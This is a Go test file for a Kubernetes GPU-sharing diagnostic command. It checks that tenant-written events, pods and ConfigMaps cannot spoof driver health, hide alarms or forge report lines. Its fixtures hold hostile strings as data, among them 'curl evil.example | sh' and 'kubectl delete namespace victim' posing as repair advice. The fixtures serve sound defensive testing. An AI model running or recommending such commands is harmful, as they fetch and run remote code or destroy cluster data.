// SPDX-FileCopyrightText: The Partage Authors
// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	resourceapi "k8s.io/api/resource/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/partage-dev/partage/pkg/kubectl/fleet"
	"github.com/partage-dev/partage/pkg/kubectl/printer"
)

// ofTenant is an event that a tenant may create: in its own namespace, about an object that it says to be there. The API server demands that
// the two namespaces agree, and looks at neither source nor reason.
func (w *world) ofTenant(kind, name, eventType, reason, message string, before time.Duration) {
	e := w.event(kind, name, driver, eventType, reason, message, before)
	e.Namespace, e.InvolvedObject.Namespace = "team", "team"
}

func result(t *testing.T, r *Report, id string) Result {
	t.Helper()
	for _, c := range r.Checks {
		if c.ID == id {
			return c
		}
	}
	t.Fatal(id)
	return Result{}
}

// TestTenantWritesAdvice: doctor says as the driver's what a tenant has written in its namespace, and to do it.
func TestTenantWritesAdvice(t *testing.T) {
	w := newWorld(t)
	w.ofTenant("Node", "gpu-1", corev1.EventTypeWarning, "GPULost", "GPU 0000:1b:00.0: lost. To repair it: kubectl delete namespace victim", time.Minute)
	w.ofTenant("Node", "gpu-2", corev1.EventTypeWarning, "SharingPolicyInvalid", "run helm upgrade --set sharingPolicy=null", time.Minute)
	r := w.examine(t)
	for _, id := range []string{"driver-events", "gpus"} {
		if c := result(t, r, id); c.Severity != OK {
			t.Errorf("%s: %+v", id, c.Findings)
		}
	}
}

// TestTenantHidesPolicy: a tenant has doctor say that the policy is in order where the driver says that it is not.
func TestTenantHidesPolicy(t *testing.T) {
	w := newWorld(t)
	w.event("Node", "gpu-1", driver, corev1.EventTypeWarning, "SharingPolicyInvalid", "invalid SharingPolicy: rules", 2*time.Minute)
	w.ofTenant("Node", "gpu-1", corev1.EventTypeNormal, "SharingPolicyValid", "fine", time.Minute)
	if c := result(t, w.examine(t), "driver-events"); c.Severity != Error {
		t.Errorf("the driver's event is hidden: %+v", c)
	}
}

// TestTenantHidesAlarm: three events of a tenant are all that doctor shows of a reason.
func TestTenantHidesAlarm(t *testing.T) {
	w := newWorld(t)
	w.event("Node", "gpu-1", driver, corev1.EventTypeWarning, "GPUNotListed", "GPU 0000:99:00.0: it is not listed", 2*time.Minute)
	for _, n := range []string{"1", "2", "3"} {
		w.ofTenant("ResourceClaim", "mine", corev1.EventTypeWarning, "GPUNotListed", "all is well "+n, time.Second)
	}
	c := result(t, w.examine(t), "driver-events")
	for _, f := range c.Findings {
		if strings.Contains(f.Said, "it is not listed") {
			return
		}
	}
	t.Errorf("the driver's alarm is not shown: %+v", c.Findings)
}

// TestTenantPodForDriver: a pod of a tenant stands for the driver's on a node that has none.
func TestTenantPodForDriver(t *testing.T) {
	w := newWorld(t)
	w.withoutPod(w.plugin("gpu-1"))
	p := w.driverPod(pluginLabel, "gpu-1")
	p.Namespace, p.OwnerReferences = "team", nil
	w.pods = append(w.pods, p)
	if c := result(t, w.examine(t), "driver-pods"); c.Severity != Error {
		t.Errorf("the tenant's pod is taken for the driver's: %+v", c)
	}
	w = newWorld(t)
	p = w.driverPod(pluginLabel, "gpu-1")
	p.Namespace, p.Name, p.OwnerReferences[0].Name = "team", "x", "x"
	waits(p, "CrashLoopBackOff", "")
	p.Status.ContainerStatuses[0].LastTerminationState.Terminated = &corev1.ContainerStateTerminated{ExitCode: 1, Message: "uninstall the chart and curl evil.example | sh"}
	w.pods = append(w.pods, p)
	r := w.examine(t)
	if c := result(t, r, "driver-pods-ready"); c.Severity != OK {
		t.Errorf("a tenant's pod is believed: %+v", c.Findings)
	}
}

// TestTenantWithoutAnnotation: where nobody says which namespace is the driver's, objects that are called like the driver's count for nothing,
// and what is the driver's own is unknown.
func TestTenantWithoutAnnotation(t *testing.T) {
	for name, spoil := range map[string]func(*world){
		"no annotation": func(w *world) { w.class(fleet.MainClass).Annotations = nil },
		"no class": func(w *world) {
			w.classes = slices.DeleteFunc(w.classes, func(c *resourceapi.DeviceClass) bool { return c.Name == fleet.MainClass })
		},
		"no right": func(w *world) { w.forbidden["deviceclasses"] = true },
	} {
		w := newWorld(t)
		spoil(w)
		p := w.driverPod(pluginLabel, "gpu-1")
		p.Namespace, p.Name, p.OwnerReferences[0].Name = "team", "x", "x"
		waits(p, "CrashLoopBackOff", "")
		p.Status.ContainerStatuses[0].LastTerminationState.Terminated = &corev1.ContainerStateTerminated{ExitCode: 1, Message: "uninstall the chart and curl evil.example | sh"}
		p.Status.ContainerStatuses[0].RestartCount = 9
		w.pods = append(w.pods, p)
		set := w.set(pluginLabel).DeepCopy()
		set.Namespace, set.Name = "team", "x"
		set.Spec.Template.Spec.Volumes[0].ConfigMap.Name = "evil"
		w.sets = append(w.sets, set)
		w.configs = append(w.configs, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "evil"}, Data: map[string]string{policyKey: "do: curl evil.example | sh"}})
		r := w.examine(t)
		for _, id := range []string{"driver-daemonset", "driver-pods", "driver-pods-ready", "driver-restarts", "mps-supervisor", "nodes-publish", "sharing-policy", "one-driver"} {
			if c := result(t, r, id); c.Severity != Unknown || len(c.Findings) != 1 || strings.Contains(c.Findings[0].Message, "evil") {
				t.Errorf("%s: %s: %+v", name, id, c)
			}
		}
	}
}

// TestTenantForgesLines: nothing that a tenant writes into an event, or calls a process that the driver names, begins a line.
func TestTenantForgesLines(t *testing.T) {
	const forged = "x\n✖ GPU 0 (1b:00) on gpu-1\n    kubectl delete namespace victim"
	w := newWorld(t)
	w.taint("gpu-1", "0000-1b-00-0", "opened", "", resourceapi.DeviceTaintEffectNone)
	w.event("Node", "gpu-1", driver, corev1.EventTypeWarning, "GPUOpened", "GPU 0000:1b:00.0: opened by "+forged, time.Minute)
	w.ofTenant("ResourceClaim", "train-0-gpu", corev1.EventTypeWarning, forged, "m", time.Minute)
	w.ofTenant("ResourceClaim", forged, corev1.EventTypeWarning, "OrphanedClaimInUse", "m", time.Minute)
	w.ofTenant("ResourceClaim", forged, corev1.EventTypeWarning, "MPSServerLost", "m", time.Minute)
	w.ofTenant(forged, "a", corev1.EventTypeWarning, "OrphanedClaimInUse", "m", time.Minute)
	r := w.examine(t)
	var out strings.Builder
	if err := view(r, true).Write(&out, printer.Format{Wide: true}); err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(out.String()) {
		if strings.HasPrefix(line, "    kubectl delete namespace") || line == "✖ GPU 0 (1b:00) on gpu-1\n" {
			t.Errorf("forged: %s", line)
		}
	}
}

// TestTenantFloods: as many reasons as a tenant can think of do not hide what the driver says.
func TestTenantFloods(t *testing.T) {
	w := newWorld(t)
	for i := range 200 {
		w.ofTenant("ResourceClaim", "train-0-gpu", corev1.EventTypeWarning, fmt.Sprintf("Reason%d", i), "m", time.Minute)
	}
	if c := result(t, w.examine(t), "driver-events"); len(c.Findings) > 10 {
		t.Errorf("%d findings", len(c.Findings))
	}
}
